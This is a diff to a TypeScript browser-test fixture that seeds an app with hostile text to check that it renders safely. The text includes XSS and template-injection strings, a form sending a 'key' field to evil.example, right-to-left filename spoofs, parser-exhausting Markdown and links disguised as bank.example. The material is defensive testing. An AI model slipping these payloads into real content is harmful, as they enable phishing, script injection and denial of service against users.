@@ -2,12 +2,15 @@
 // overrides, zero-width characters, and words of thousands of characters. What the API refuses is noted. Used by hostile.browser.test.ts.
 import { ProblemError } from "../../../cli/connection/client.ts";
 import type { Owner } from "./owner.ts";
+import { PACED_MODEL } from "./paced-model.ts";
 import { order, say } from "./world/talk.ts";
 import { toSkillMd } from "./world/lessons.ts";
 
 export interface HostileWorld {
   /** With a tool's result, a file, an answer and a parked question. */
   session: string;
+  /** The model's answer is hostile Markdown. */
+  answered: string;
   skills: string[];
   board: string;
   card: string;
@@ -27,10 +30,21 @@ export const MARKUP = [
   "<form action=https://evil.example><input name=key></form></div></main></body>",
   "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
 ].join(" ");
-const BIDI = "\u202Egnp.exe\u202C \u2066isolated\u2069 zero\u200Bwidth\u200D\uFEFF مرحبا שלום";
+const BIDI = "\u202Egnp.exe\u202C \u2066isolated\u2069 zero\u200Bwidth\u200D\uFEFF مرحبا שלום \u202Enot closed";
+/** What a reader of Markdown runs out of stack on, and what takes it seconds. */
+const MARKDOWN = `${">".repeat(5_000)}\n\n${"_a".repeat(5_000)}`;
+/** Words that do not say where their link leads, and the last that do. */
+const LINKS = [
+  '[bank.example](https://evil.example/x "https://bank.example")',
+  "https://bank.example@evil.example/",
+  "[Allow once](https://evil.example)",
+  "https://good.example/x",
+].join(" ");
 /** Without control characters, which names may not have. */
 const NAME = `${MARKUP.slice(0, 60)} &amp; "quoted" ${"W".repeat(80)}`;
-const TEXT = `${MARKUP}\n\n${BIDI}\n\n${WORD}`;
+const TEXT = `${MARKUP}\n\n${BIDI}\n\n${MARKDOWN}\n\n${WORD}`;
+/** It closes the quotation marks around it, and goes on as if the page spoke. */
+export const TITLE = "x”? Nothing is lost. “y \u202Egpj.exe";
 
 export async function seedHostileWorld(owner: Owner): Promise<HostileWorld> {
   const refused: string[] = [];
@@ -53,11 +67,12 @@ export async function seedHostileWorld(owner: Owner): Promise<HostileWorld> {
     throw new Error(`${what}: the API takes no hostile text: ${refused.join(", ")}`);
   };
   const session = await seedSession(owner, send);
+  const answered = await seedAnswer(owner);
   const skills = await seedSkills(owner, attempt);
   await seedMemory(send);
   const card = await seedBoard(send);
   await seedRest(owner, send);
-  return { session, skills, board: "main", card, refused };
+  return { session, answered, skills, board: "main", card, refused };
 }
 
 type Send = <T>(what: string, method: string, path: string, toBody: (text: string) => object) => Promise<T>;
@@ -71,6 +86,14 @@ async function seedSession(owner: Owner, send: Send): Promise<string> {
   await say(owner, session, order("write_file", { path: "notes.md", content: `${MARKUP}\n${BIDI}\n` }));
   await say(owner, session, TEXT);
   await say(owner, session, `Ask me: ${MARKUP.slice(0, 100)} ${"W".repeat(200)}? <b>one</b>, ${"W".repeat(200)}`);
+  return session;
+}
+
+async function seedAnswer(owner: Owner): Promise<string> {
+  const { session } = await owner.client.createSession({ title: TITLE });
+  await owner.call("PATCH", `/v1/sessions/${session}`, { model: PACED_MODEL });
+  await say(owner, session, LINKS);
+  await say(owner, session, `${MARKUP}\n\n${">".repeat(5_000)}\n\n${BIDI}`);
   return session;
 }
 
